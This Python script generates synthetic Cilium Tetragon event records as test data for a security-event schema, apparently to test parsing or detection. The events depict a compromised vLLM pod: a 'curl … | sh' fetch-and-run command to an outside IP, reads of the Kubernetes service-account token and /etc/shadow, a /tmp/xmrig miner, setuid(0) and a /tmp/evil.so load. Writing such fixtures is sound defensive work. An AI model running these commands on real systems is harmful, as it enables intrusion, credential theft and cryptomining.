#!/usr/bin/env python3
"""Makes SYNTHETIC events of Cilium Tetragon (JSON export).

Needs    python3.
Installs nothing.
Writes   schemas/sources/cilium.tetragon/testdata/synthetic_tetragon.ndjson

Tetragon needs a kernel with BPF: nothing is recorded. The shape is protojson of
its public API: 64-bit numbers as texts, zero values left out.
"""

import synthetic as s


def at(i):
    return s.at(i, "%Y-%m-%dT%H:%M:%S.%f") + "678Z"


def process(i, pid, binary, arguments, pod=True, **more):
    return {"exec_id": f"dGV0cmFnb246{pid}", "pid": pid, "uid": 0, "cwd": "/srv", "binary": binary, "arguments": arguments, "flags": "execve clone", "start_time": at(i), "auid": 4294967295,
            "parent_exec_id": "dGV1", "tid": pid, "in_init_tree": False} | ({"pod": {"namespace": "ml", "name": "vllm-0", "container": {"id": "containerd://6b74", "name": "vllm", "image": {"id": "example.com/vllm@sha256:" + s.digest("i"), "name": "example.com/vllm:0.9"},
            "start_time": at(-3600), "pid": 12}, "pod_labels": {"app": "vllm"}, "workload": "vllm", "workload_kind": "StatefulSet"}, "docker": "6b74"} if pod else {}) | more


PARENT = process(-60, 3596, "/usr/bin/python3.11", "-m vllm.entrypoints.openai.api_server")


def event(i, kind, body):
    return {kind: body, "node_name": "node-3", "time": at(i), "cluster_name": "prod"}


def kprobe(i, function, args, policy, action="KPROBE_ACTION_POST", **more):
    return event(i, "process_kprobe", {"process": process(i - 1, 4720, "/usr/bin/bash", "-c id"), "parent": PARENT, "function_name": function, "args": args, "action": action, "policy_name": policy, "return_action": "KPROBE_ACTION_POST"} | more)


SOCKET = {"sock_arg": {"family": "AF_INET", "type": "SOCK_STREAM", "protocol": "IPPROTO_TCP", "saddr": "192.0.2.12", "daddr": "198.51.100.9", "sport": 50112, "dport": 443, "cookie": "18446612682250612736", "state": "TCP_SYN_SENT"}}
RECORDS = [
    event(1, "process_exec", {"process": process(1, 4720, "/usr/bin/bash", "-c \"curl http://198.51.100.9/x | sh\"", process_credentials={"uid": 0, "gid": 0, "euid": 0}), "parent": PARENT}),
    event(2, "process_exec", {"process": process(2, 4721, "/usr/bin/nvidia-smi", "-q"), "parent": PARENT}),
    event(3, "process_exit", {"process": process(1, 4720, "/usr/bin/bash", "-c id"), "parent": PARENT, "signal": "SIGKILL", "time": at(3)}),
    kprobe(4, "security_file_permission", [{"file_arg": {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token", "permission": "-rw-r--r--"}}, {"int_arg": 4}], "sensitive-files"),
    kprobe(5, "fd_install", [{"int_arg": 3}, {"file_arg": {"path": "/models/llama/model.safetensors"}}], "model-weights", message="model weights opened", tags=["observability.filesystem"]),
    kprobe(6, "tcp_connect", [SOCKET], "connect"),
    kprobe(7, "tcp_connect", [SOCKET], "block-egress", action="KPROBE_ACTION_SIGKILL"),
    kprobe(8, "security_bprm_check", [{"linux_binprm_arg": {"path": "/tmp/xmrig"}}], "deny-tmp", action="KPROBE_ACTION_OVERRIDE"),
    kprobe(9, "__x64_sys_setuid", [{"int_arg": 0}], "privileges"),
    event(10, "process_tracepoint", {"process": process(9, 4730, "/usr/bin/python3.11", "agent.py"), "parent": PARENT, "subsys": "raw_syscalls", "event": "sys_enter", "args": [{"long_arg": "59"}], "policy_name": "syscalls", "action": "KPROBE_ACTION_POST"}),
    event(11, "process_lsm", {"process": process(10, 4731, "/usr/bin/cat", "/etc/shadow"), "parent": PARENT, "function_name": "file_open", "args": [{"file_arg": {"path": "/etc/shadow", "permission": "-rw-r-----"}}], "policy_name": "lsm-open", "action": "KPROBE_ACTION_POST"}),
    event(12, "process_loader", {"process": process(10, 4732, "/usr/bin/python3.11", "agent.py"), "path": "/tmp/evil.so", "buildid": "c2c2"}),
    event(13, "process_exec", {"process": process(13, 990, "/usr/sbin/sshd", "-D", pod=False), "parent": {"exec_id": "dGV1", "pid": 1, "uid": 0, "binary": "/usr/lib/systemd/systemd", "cwd": "/", "flags": "procFS"}}),
    event(14, "rate_limit_info", {"number_of_dropped_process_events": "12"}),
]

if __name__ == "__main__":
    s.write("cilium.tetragon", "synthetic_tetragon.ndjson", RECORDS)
